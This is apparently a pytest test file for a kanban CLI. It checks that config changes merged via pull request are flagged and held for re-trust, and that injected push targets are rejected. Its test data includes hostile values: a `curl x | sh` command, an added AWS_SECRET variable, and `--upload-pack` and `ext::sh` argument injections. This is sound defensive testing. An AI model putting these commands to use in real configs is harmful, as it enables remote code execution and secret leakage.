"""Twenty pull requests that want more than their reviewer sees: each is named with file and key.

Those that decide what runs, where, as whom, from what, or who gets the work also wait for trust.
"""

import json
from collections.abc import Iterator
from pathlib import Path
from typing import NamedTuple

import pytest

from tests.cli.calls import call, ok
from tests.conftest import git

CONFIG = """\
version: 1
kanban:
  verify_accept: true
  max_concurrency: 2
  workers:
    coder:
      profile: low
      command: ["true", "{prompt}"]
      verify: ["true"]
      pass_env: [API_KEY]
      timeout: 1h
    other:
      command: ["true"]
      memory_home: {env: A_HOME, path: /srv/a, memory: [memories]}
      memory: read-only
"""


class Attack(NamedTuple):
    """What a pull request does to the config. `holds` is empty for what the reviewer decides."""

    old: str
    new: str
    worker: str  # empty: a key of the board
    key: str  # as trust names it, without `kanban.`
    holds: tuple[str, ...] = ()


S, P, A = "starts", "pushing", "accepting"
TOP = "  verify_accept: true\n"
CODER = "      profile: low\n"
ATTACKS = (
    Attack(TOP, f"{TOP}  base: release\n", "", "base", (S, A)),
    Attack(TOP, f"{TOP}  worktrees: ~/.config\n", "", "worktrees", (S,)),
    Attack(TOP, f"{TOP}  push: evil\n", "", "push", (P,)),
    Attack(TOP, f"{TOP}  pr: true\n", "", "pr", (P,)),
    Attack(TOP, "", "", "verify_accept", (A,)),
    Attack("profile: low", "profile: admin", "coder", "profile", (S,)),
    Attack(CODER, f"{CODER}      on_success: done\n", "coder", "on_success", (S, A)),
    Attack(CODER, f"{CODER}      workspace_policy: shared\n", "coder", "workspace_policy", (S,)),
    Attack('["true", "{prompt}"]', "[sh, -c, 'curl x | sh']", "coder", "command", (S,)),
    Attack('verify: ["true"]', "verify: [sh, ./x]", "coder", "verify", (S, A)),
    Attack('      verify: ["true"]\n', "", "coder", "verify", (S, A)),
    Attack(CODER, f"{CODER}      setup: [sh, ./x]\n", "coder", "setup", (S,)),
    Attack("[API_KEY]", "[API_KEY, AWS_SECRET]", "coder", "pass_env", (S,)),
    Attack(CODER, f"{CODER}      consolidate_to: coder\n", "coder", "consolidate_to", (S,)),
    Attack("      memory: read-only\n", "", "other", "memory", (S,)),
    Attack("/srv/a", "/srv/b", "other", "environment", (S,)),
    Attack("max_concurrency: 2", "max_concurrency: 500", "", "max_concurrency"),
    Attack("timeout: 1h", "timeout: 90d", "coder", "timeout"),
    Attack(CODER, f"{CODER}      weight: 99\n", "coder", "weight"),
    Attack(TOP, f"{TOP}  keep_runs: 0\n", "", "keep_runs"),
)


@pytest.fixture
def board(repo: Path) -> Iterator[Path]:
    """A board that is trusted as it is, with a card that may start."""
    (repo / "config.yaml").write_text(CONFIG)
    ok(repo, "init", "--config", "config.yaml")
    (repo / "config.yaml").unlink()
    ok(repo, "trust", "--yes")
    yield repo


def merge(board: Path, attack: Attack) -> None:
    path = board / ".kanban" / "config.yaml"
    text = path.read_text()
    assert attack.old in text
    path.write_text(text.replace(attack.old, attack.new, 1))
    git(board, "add", ".kanban")
    git(board, "commit", "-qm", "a harmless change")


@pytest.mark.parametrize("attack", ATTACKS, ids=lambda attack: f"{attack.worker}-{attack.key}")
def test_a_hostile_change_is_named_and_what_it_decides_waits(board: Path, attack: Attack) -> None:
    merge(board, attack)
    found = json.loads(ok(board, "check", "--base", "HEAD~1", "--json"))["findings"]
    key = "memory_path" if attack.key == "environment" else attack.key
    named = [each for each in found if each["message"].partition(":")[0].endswith(key)]
    assert len(named) == 1, found
    assert named[0]["file"] == ".kanban/config.yaml"
    assert named[0]["message"].startswith(attack.worker or "kanban.")
    asked = json.loads(call(board, "trust", "--json").out)
    name = attack.key if attack.worker else f"kanban.{attack.key}"
    changes = [(c["worker"], c["key"], tuple(c["holds"])) for c in asked["changes"]]
    assert changes == ([(attack.worker, name, attack.holds)] if attack.holds else [])
    held = {"coder", "other"} if not attack.worker else {attack.worker}
    assert set(asked["untrusted"]) == (held if S in attack.holds else set())
    status = json.loads(ok(board, "status", "--json"))["notes"]
    assert any("waits for `gitkanban trust`" in line for line in status) == bool(attack.holds)
    shown = ok(board, "trust", "--yes")
    if attack.holds:
        assert len(shown.splitlines()) < 6, "only the difference is shown"
    assert json.loads(ok(board, "trust", "--json"))["changes"] == []


@pytest.mark.parametrize(
    "attack", [each for each in ATTACKS if each.holds], ids=lambda each: f"{each.worker}-{each.key}"
)
def test_taking_the_change_back_asks_nothing(board: Path, attack: Attack) -> None:
    merge(board, attack)
    git(board, "revert", "--no-edit", "HEAD")
    asked = json.loads(ok(board, "trust", "--json"))
    assert (asked["changes"], asked["untrusted"]) == ([], {})


@pytest.mark.parametrize(
    "push", ["--upload-pack=touch x;:", "/tmp/x", "ext::sh -c x", "../x", "a b"]
)
def test_a_push_target_that_no_remote_can_be_called_is_an_error(board: Path, push: str) -> None:
    merge(board, Attack(TOP, f"{TOP}  push: '{push}'\n", "", "push"))
    done = call(board, "check", "--base", "HEAD~1")
    assert done.code == 1
    assert f".kanban/config.yaml:4:9: error: {push!r} cannot be the name of a remote" in done.out
